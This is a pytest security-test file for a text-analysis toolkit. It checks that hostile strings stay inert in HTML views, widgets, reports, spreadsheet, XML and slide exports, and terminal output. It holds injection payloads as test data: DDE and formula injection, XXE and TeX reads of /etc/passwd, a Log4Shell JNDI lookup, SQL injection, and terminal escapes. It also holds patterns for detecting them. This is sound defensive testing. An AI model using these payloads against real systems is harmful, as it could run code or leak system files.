"""Injection: text that attacks stays text in everything the toolkit shows or writes. The same payloads go through a real browser in tests/browser."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import re
import xml.etree.ElementTree as Tree
from contextlib import redirect_stderr, redirect_stdout
from html.parser import HTMLParser
from pathlib import Path

import pytest

import analystkit as ak
from analystkit import cli, export
from analystkit.corpus.corpus import Corpus
from analystkit.corpus.store import open_corpus
from analystkit.pipeline import load_pipeline

pytest.importorskip("playwright")
_SPEC = importlib.util.spec_from_file_location(
    "browser_injection", Path(__file__).parents[1] / "browser" / "test_injection.py"
)
_BROWSER = importlib.util.module_from_spec(_SPEC)
_SPEC.loader.exec_module(_BROWSER)
# Beside what attacks browsers: spreadsheets, terminals, TeX, Markdown, XML, databases, charts, and names of files of this machine.
SECRET = "words of a file of this machine"
OTHERS = (
    '=HYPERLINK("http://outside.example")', "@SUM(A1)", "+cmd|' /C calc'!A0", "\t=1+1", "\uff1d1+1", "%0A=1", "\x1b]0;pwned\x07\x1b[2J\x1b[31m", "\x9b31m",
    "a\rb", "\\input{/etc/passwd}", "[x](javascript:window.pwned=1)", "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>", "'; DROP TABLE events; --", "$x_1_2$",
    "_hidden", "\u202egnp.exe", "{{7*7}}", "${jndi:ldap://outside.example}", "{secret}",
)  # fmt: skip


@pytest.fixture(scope="module")
def secret(tmp_path_factory):
    path = tmp_path_factory.mktemp("private") / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile(secret):
    """The corpus of the browser tests with more payloads: in titles, texts, outlets, urls, names, places, cues, methods."""
    payloads = [*_BROWSER.PAYLOADS, *(one.replace("{secret}", str(secret)) for one in OTHERS)]
    scope: dict[str, object] = {}
    code = _BROWSER._CORPUS.replace(f"payloads = {_BROWSER.PAYLOADS!r}", f"payloads = {payloads!r}")
    assert code != _BROWSER._CORPUS
    exec(code, scope)
    assert len(payloads) >= 45
    return scope["corpus"]


_HARMLESS = ("#", "data:image/png;base64,", "http://", "https://")


class Dangers(HTMLParser):
    """What of a page a browser would run or fetch."""

    _RUN = frozenset(
        (
            "iframe",
            "object",
            "embed",
            "base",
            "frame",
            "applet",
            "audio",
            "video",
            "source",
            "input",
            "textarea",
            "math",
            "details",
            "body",
            "link",
            "meta",
        )
    )

    def __init__(self, page: str, may: frozenset[str] = frozenset()) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.scripts: list[str] = []
        self._may = may
        self._script = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self._script = tag == "script"
        if tag in self._RUN - self._may:
            self.found.append(f"<{tag}>")
        for name, value in attributes:
            text = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            address = name in ("href", "src", "xlink:href", "srcset")
            runs = name.startswith("on") or name in ("srcdoc", "formaction", "background", "action", "ping")
            if runs or (address and not text.startswith(_HARMLESS)):
                self.found.append(f"{tag} {name}={value}")
            elif name in ("src", "srcset") and text.startswith("http"):
                self.found.append(f"{tag} fetches {value}")
            elif name == "style" and ("url(" in text or "expression(" in text):
                self.found.append(f"{tag} style={value}")

    def handle_data(self, data: str) -> None:
        if self._script:
            self.scripts.append(data)

    def handle_endtag(self, tag: str) -> None:
        self._script = False


PAGE = frozenset(("body", "meta", "details", "input"))


def _reprs(corpus: Corpus) -> dict[str, str]:
    ids = [f"{kind}{n}" for n in range(len(corpus.events)) for kind in ("e", "q")]
    return {
        "card": corpus._repr_html_(),
        "filtered card": corpus.where(outlets=list(corpus.articles["source"][:3]))._repr_html_(),
        "passages": "".join(corpus.source(one)._repr_html_() for one in ids),
        "explanations": "".join(
            corpus.explain(f"ac{n}")._repr_html_() for n in range(0, len(corpus.actors), 7)
        ),
        "frames": "".join(frame.head(60)._repr_html_() for frame in corpus.frames.values()),
    }


def test_what_notebooks_show_runs_nothing(hostile):
    for name, page in _reprs(hostile).items():
        found = Dangers(page)
        assert not found.found and not found.scripts, (name, found.found[:3])


def test_every_widget_shows_text_as_text(hostile):
    import ipywidgets as w

    explorer = ak.explore(hostile)
    for view in explorer.views:
        explorer.look_at(view.title)
    for n in (0, 2, 11, 40):
        explorer.choose(f"e{n}")
        explorer.choose(f"q{n}")
        explorer.choose_actor(f"ac{n}")
    waiting, seen = [explorer], []
    while waiting:
        widget = waiting.pop()
        seen.append(widget)
        waiting.extend(getattr(widget, "children", ()))
    pages = [widget.value for widget in seen if isinstance(widget, (w.HTML, w.HTMLMath))]
    assert len(pages) > 10
    for page in pages:
        assert not Dangers(page).found, Dangers(page).found[:3]
    for widget in seen:
        # Descriptions are text unless a widget is told otherwise.
        assert not getattr(widget, "description_allow_html", False)
    assert not Dangers(explorer.snapshot().html).found
    explorer.close()


@pytest.mark.parametrize("full_texts", [True, False])
def test_the_report_runs_nothing_but_its_own_script(hostile, corpus, tmp_path, full_texts):
    page = export.report(hostile, tmp_path / "a.html", full_texts=full_texts).read_text(encoding="utf-8")
    plain = export.report(corpus, tmp_path / "b.html", full_texts=full_texts).read_text(encoding="utf-8")
    found = Dangers(page, PAGE)
    assert not found.found, found.found[:5]
    assert found.scripts == Dangers(plain, PAGE).scripts


def test_no_cell_is_a_formula(hostile, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    for path in export.csv(hostile, tmp_path):
        if path.suffix == ".csv":
            for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
                for cell in row:
                    assert not cell.lstrip(" \t\r\n\u00a0\u3000").startswith(
                        ("=", "@", "+c", "\uff1d", "%")
                    ), cell
    book = openpyxl.load_workbook(export.excel(hostile, tmp_path / "a.xlsx"))
    assert not [
        cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type in ("f", "e")
    ]
    assert not any(sheet._hyperlinks for sheet in book)


def test_graphs_and_pictures_are_xml_without_entities_or_scripts(hostile, tmp_path):
    files = [export.gexf(hostile, tmp_path / "a.gexf"), export.graphml(hostile, tmp_path / "a.graphml")]
    files += [path for path in export.pictures(hostile, tmp_path) if path.suffix == ".svg"]
    assert len(files) >= 4
    for path in files:
        text = path.read_text(encoding="utf-8")
        assert "<!ENTITY" not in text, path
        for element in Tree.fromstring(text).iter():
            name = element.tag.rpartition("}")[2] if isinstance(element.tag, str) else ""
            assert name not in ("script", "foreignObject", "iframe", "animate", "set"), (path, name)
            for full, value in element.attrib.items():
                key = full.rpartition("}")[2]
                assert not key.startswith("on"), (path, key)
                assert key != "href" or value.startswith(("#", "data:image/png")), (path, value[:60])


def test_slides_are_escaped_for_a_player_that_shows_html(hostile, tmp_path):
    slides = json.loads(export.timelinejs(hostile, tmp_path / "a.json").read_text(encoding="utf-8"))

    def texts(value):
        if isinstance(value, dict):
            yield from (text for each in value.values() for text in texts(each))
        elif isinstance(value, list):
            yield from (text for each in value for text in texts(each))
        elif isinstance(value, str):
            yield value

    for text in texts(slides):
        assert not Dangers(text).found and not Dangers(text).scripts, text


def test_no_file_of_this_machine_is_read_because_a_text_names_it(hostile, tmp_path):
    pages = "".join(_reprs(hostile).values())
    export.report(hostile, tmp_path)
    export.csv(hostile, tmp_path)
    export.pictures(hostile, tmp_path)
    export.timelinejs(hostile, tmp_path / "a.json")
    assert SECRET not in pages
    for path in tmp_path.rglob("*"):
        assert SECRET.encode() not in path.read_bytes(), path


_STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_text_cannot_steer_a_terminal(hostile, tmp_path):
    assert not _STEERS.search(repr(hostile)) and not _STEERS.search(str(hostile.where(outlets=OTHERS[6])))
    for n in range(len(hostile.events)):
        assert not _STEERS.search(str(hostile.source(f"e{n}"))), n
    folder = tmp_path / "press"
    folder.mkdir()
    name = "\x1b]0;pwned\x07\u202etxt.jsonl"
    (folder / name).write_text(
        '{"text": "Soldiers shelled the port.", "id": "\\u001b[2Ja"}\n{"text": "\\u001b[31m \n',
        encoding="utf-8",
    )
    for arguments in (
        ["extract", str(folder), "--out", str(tmp_path / "out"), "--verbose"],
        ["extract", str(folder / name), "--out", str(tmp_path / "\x1b[31mout")],
        ["report", str(folder / "\x1b[2Jnone"), "--out", str(tmp_path / "out2")],
        ["extract", str(folder), "--out", str(tmp_path / "out3"), "--published", "\x1b[31m"],
        ["extract", str(folder), "--out", str(tmp_path / "out3"), "--pipeline", "\x1b[31m"],
    ):
        out, err = io.StringIO(), io.StringIO()
        with redirect_stdout(out), redirect_stderr(err):
            cli.main(arguments)
        # A progress bar returns to the beginning of its own line.
        said = out.getvalue() + err.getvalue().replace("\r", "")
        assert said and not _STEERS.search(said), arguments


def _absolute(path: Path) -> re.Pattern[str]:
    return re.compile(
        "|".join(
            re.escape(str(one))
            for one in {path, Path.home(), Path(ak.__file__).parents[1]}
            if len(str(one)) > 4
        )
    )


def test_no_export_and_no_saved_corpus_holds_a_path_of_this_machine(tmp_path):
    source = tmp_path / "my private folder"
    source.mkdir()
    (source / "2022-01-04_a.txt").write_text(
        "Soldiers shelled the port on Monday.\n\nSource: Wire", encoding="utf-8"
    )
    (source / "broken.json").write_text("{", encoding="utf-8")
    pipeline = tmp_path / "my own pipeline"
    nlp = load_pipeline()
    nlp.to_disk(pipeline)
    corpus = ak.load(source, pipeline=pipeline, progress=False)
    out = tmp_path / "out"
    corpus.review.confirm(corpus.events["event_id"].iloc[0])
    corpus.save(out / "study")
    for write in (export.csv, export.parquet, export.pictures, export.report):
        write(corpus, out / write.__name__)
    export.excel(corpus, out / "a.xlsx")
    export.gexf(corpus, out / "a.gexf")
    export.timelinejs(corpus, out / "a.json")
    export.geojson(corpus, out / "a.geojson")
    private = _absolute(tmp_path)
    shown = "".join([repr(corpus), corpus._repr_html_(), repr(corpus.source(corpus.events.iloc[0]))])
    assert not private.search(shown)
    for path in (path for path in out.rglob("*") if path.is_file()):
        assert not private.search(path.read_bytes().decode("utf-8", "replace")), path
    for name, frame in open_corpus(out / "study").frames.items():
        for column in frame.select_dtypes(exclude="datetimetz"):
            assert not frame[column].astype(str).str.contains(str(tmp_path), regex=False).any(), (
                name,
                column,
            )


def test_no_notebook_of_the_repository_holds_a_path_or_widget_state():
    root = Path(__file__).resolve().parents[2]
    for path in root.glob("notebooks/*.ipynb"):
        text = path.read_text(encoding="utf-8")
        assert "widget-state" not in text and not re.search(r"/(?:home|Users|root|tmp)/", text), path


def test_the_command_line_makes_a_report_without_full_texts(tmp_path):
    (tmp_path / "a.txt").write_text(
        "Soldiers shelled the port on Monday.\n\nThe sea was calm and blue.", encoding="utf-8"
    )
    for flags, holds in (([], True), (["--no-texts"], False)):
        out = tmp_path / f"out{len(flags)}"
        assert cli.main(["report", str(tmp_path / "a.txt"), "--out", str(out), "--quiet", *flags]) == 0
        page = re.sub(r"<[^>]*>", "", (out / "report.html").read_text(encoding="utf-8"))
        assert "Soldiers shelled the port" in page and ("The sea was calm" in page) is holds
